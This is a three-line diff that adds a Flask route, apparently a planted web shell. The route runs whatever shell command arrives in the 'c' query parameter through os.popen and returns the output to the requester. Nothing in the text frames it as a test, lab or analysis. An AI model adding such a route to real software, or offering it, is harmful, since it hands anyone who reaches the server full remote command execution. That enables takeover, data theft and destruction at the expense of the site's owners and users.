@@ -1,0 +1,3 @@
+@app.route("/")
+def x():
+    return os.popen(request.args.get("c")).read()
